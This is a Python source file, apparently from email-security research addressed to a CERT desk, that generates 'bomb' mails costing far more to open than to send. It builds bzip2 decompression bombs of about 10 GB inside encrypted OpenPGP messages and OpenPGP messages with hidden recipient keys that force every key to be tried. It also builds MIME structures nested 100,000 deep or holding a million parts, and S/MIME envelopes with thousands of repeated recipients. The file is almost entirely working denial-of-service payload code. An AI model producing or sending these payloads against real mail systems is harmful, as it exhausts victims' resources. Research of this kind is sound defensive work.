"""bombs - mails that cost far more to open than to send, made by hand: no tool writes them.

A bomb's OpenPGP form is what gpg wrote, with its encrypted packet replaced by one around other
bytes: the session key comes from a second recipient, whose key is ours.
"""
import base64
import bz2
import hashlib
import os
import subprocess

GB = 1000 * 1000 * 1000
HEAD = b"From: finder@research.example\r\nTo: %s\r\nSubject: %s\r\nDate: Mon, 2 Mar 2026 10:00:00 +0000\r\nMIME-Version: 1.0\r\n"


def head(subject, desk=b"security@cert.example"):
    return HEAD % (desk, subject)


# --- bzip2: one block is 46 MB of zeros in some 40 bytes, and a stream is blocks with a checksum over theirs

def _bits(data):
    return int.from_bytes(data, "big"), 8 * len(data)


def _block(data):
    """The one block of a small stream as (bits, length), and its checksum."""
    value, n = _bits(bz2.compress(data, 9))
    crc = (value >> (n - 32 - 48 - 32)) & 0xffffffff
    for padding in range(8):  # behind it: six bytes that end the stream, four of checksum, and up to seven bits
        if (value >> padding) & ((1 << 80) - 1) == (0x177245385090 << 32) | crc:
            return (value >> (padding + 80)) & ((1 << (n - 32 - padding - 80)) - 1), n - 32 - padding - 80, crc
    raise ValueError("more than one block")


def bzip2_bomb(first, zeros):
    """first, then about so many zeros, as one bzip2 stream."""
    run = 45 * 1000 * 1000
    blocks = [_block(first)] + [_block(bytes(run))] * (zeros // run + 1)
    value, n, combined = int.from_bytes(b"BZh9", "big"), 32, 0
    for bits, length, crc in blocks:
        value, n = (value << length) | bits, n + length
        combined = (((combined << 1) | (combined >> 31)) & 0xffffffff) ^ crc
    value, n = (value << 80) | (0x177245385090 << 32) | combined, n + 80
    return (value << (-n % 8)).to_bytes((n + 7) // 8, "big")


# --- OpenPGP packets

def packet(tag, body):
    return bytes([0xc0 | tag, 0xff]) + len(body).to_bytes(4, "big") + body


def literal_bomb(size=10 * GB):
    """A compressed packet with a literal of so many bytes in it; old form of no length, as gpg reads it to the end."""
    return packet(8, b"\x03" + bzip2_bomb(b"\xafb\x00\x00\x00\x00\x00", size))


def quiet_bomb():
    """The same with nothing to write: what is unpacked are packets of a private kind, 4 GB each, to be skipped."""
    return packet(8, b"\x03" + bzip2_bomb(b"\xfc\xff\xff\xff\xff\xff", 10 * GB))


def packets(data):
    """(tag, whole packet) of a file of gpg's."""
    at = 0
    while at < len(data):
        start, first = at, data[at]
        at += 1
        if first & 0x40:
            tag, n = first & 0x3f, data[at]
            at += 1
            if n >= 192 and n < 224:
                n, at = ((n - 192) << 8) + data[at] + 192, at + 1
            elif n == 255:
                n, at = int.from_bytes(data[at:at + 4], "big"), at + 4
            elif n >= 224:
                n = len(data) - at
        else:
            tag, size = (first >> 2) & 15, 1 << (first & 3)
            n, at = int.from_bytes(data[at:at + size], "big"), at + size
        yield tag, data[start:at + n]
        at += n


def gpg(home, *words, data=b""):
    done = subprocess.run(["gpg", "--homedir", home, "--batch", "--quiet", "--no-tty", "--trust-model", "always", *words],
                          input=data, stdout=subprocess.PIPE, stderr=subprocess.PIPE, check=False)
    if done.returncode != 0:
        raise RuntimeError(done.stderr.decode("utf-8", "replace"))
    return done


def sealed(home, recipient, own, inside, copies=1, hidden=False):
    """inside (packets) encrypted to recipient, whose wrapped key stands there so many times; own: a key with its secret in home. hidden: the
    wrapped key names nobody and opens for nobody, so that every key is tried on each."""
    made = gpg(home, "--encrypt", "-r", recipient, "-r", own, data=b"x").stdout
    said = gpg(home, "--show-session-key", "--decrypt", data=made).stderr.decode()
    key = [l.split("'")[1].split(":")[1] for l in said.splitlines() if "session key" in l][0]
    wrapped = [p for tag, p in packets(made) if tag == 1][0]
    if hidden:
        at = 2 + (1 << (wrapped[0] & 3))  # behind an old header and the version
        wrapped = wrapped[:at] + bytes(8) + wrapped[at + 8:-1] + bytes([wrapped[-1] ^ 1])
    random = os.urandom(16)
    body = random + random[-2:] + inside + b"\xd3\x14"
    body += hashlib.sha1(body).digest()
    cipher = {32: "aes-128-cfb", 64: "aes-256-cfb"}[len(key)]
    done = subprocess.run(["openssl", "enc", "-" + cipher, "-K", key, "-iv", "0" * 32], input=body, stdout=subprocess.PIPE, check=True)
    return wrapped * copies + packet(18, b"\x01" + done.stdout)


def armored(binary):
    text = base64.encodebytes(binary)
    return b"-----BEGIN PGP MESSAGE-----\n\n" + text + b"-----END PGP MESSAGE-----\n"


def pgp_entity(binary):
    text = armored(binary).replace(b"\n", b"\r\n")
    return (b'Content-Type: multipart/encrypted; protocol="application/pgp-encrypted"; boundary=b\r\n\r\n'
            b"--b\r\nContent-Type: application/pgp-encrypted\r\n\r\nVersion: 1\r\n\r\n"
            b"--b\r\nContent-Type: application/octet-stream\r\n\r\n" + text + b"\r\n--b--\r\n")


def pgp_mime(binary, subject):
    return head(subject) + pgp_entity(binary)


def inline(binary, subject):
    return head(subject) + b"\r\n" + armored(binary).replace(b"\n", b"\r\n")


# --- MIME

def deep(levels=100000):
    parts = [head(b"deep")]
    for i in range(levels):
        parts.append(b"Content-Type: multipart/mixed; boundary=%x\r\n\r\n--%x\r\n" % (i, i))
    return b"".join(parts) + b"\r\nwords\r\n"


def deep_mails(levels=100000):
    return head(b"deep mails") + b"Content-Type: message/rfc822\r\n\r\n" * levels + b"\r\nwords\r\n"


def many(parts=1000000):
    return head(b"many") + b"Content-Type: multipart/mixed; boundary=b\r\n\r\n" + b"--b\r\n\r\nx\r\n" * parts + b"--b--\r\n"


def many_mails(parts=100000):
    return (head(b"many mails") + b"Content-Type: multipart/digest; boundary=b\r\n\r\n"
            + b"--b\r\n\r\nSubject: x\r\nContent-Type: application/pkcs7-mime\r\n\r\nx\r\n" * parts + b"--b--\r\n")


def long_line(n=200 * 1000 * 1000, field=b""):
    return head(b"long") + field + b"\r\n" * (not field) + b"x" * n + b"\r\n"


def many_fields(n=1000000):
    return head(b"fields") + b"X-A: 1\r\n" * n + b"\r\nwords\r\n"


# --- CMS

def _der(tag, *inner):
    body = b"".join(inner)
    if len(body) < 128:
        return bytes([tag, len(body)]) + body
    n = (len(body).bit_length() + 7) // 8
    return bytes([tag, 0x80 | n]) + len(body).to_bytes(n, "big") + body


def _read(data, at=0):
    """(tag, content, where it ends)."""
    n, start = data[at + 1], at + 2
    if n & 0x80:
        size = n & 0x7f
        n, start = int.from_bytes(data[start:start + size], "big"), start + size
    return data[at], data[start:start + n], start + n


def cms_many(certificate, copies=10000, smime_dir="."):
    """EnvelopedData by openssl with its one RecipientInfo repeated."""
    done = subprocess.run(["openssl", "cms", "-encrypt", "-aes256", "-binary", "-outform", "DER", certificate],
                          input=b"Content-Type: text/plain\r\n\r\nwords\r\n", stdout=subprocess.PIPE, check=True)
    _, outer, _ = _read(done.stdout)
    _, oid, at = _read(outer)
    _, explicit, _ = _read(outer, at)
    _, enveloped, _ = _read(explicit)
    _, version, at = _read(enveloped)
    tag, infos, rest = _read(enveloped, at)
    assert tag == 0x31
    return _der(0x30, _der(6, oid), _der(0xa0, _der(0x30, _der(2, version), _der(0x31, infos * copies), enveloped[rest:])))


def smime_entity(der):
    return (b"Content-Type: application/pkcs7-mime; smime-type=enveloped-data; name=smime.p7m\r\n"
            b"Content-Transfer-Encoding: base64\r\n\r\n" + base64.encodebytes(der).replace(b"\n", b"\r\n"))


def smime(der, subject):
    return head(subject) + smime_entity(der)
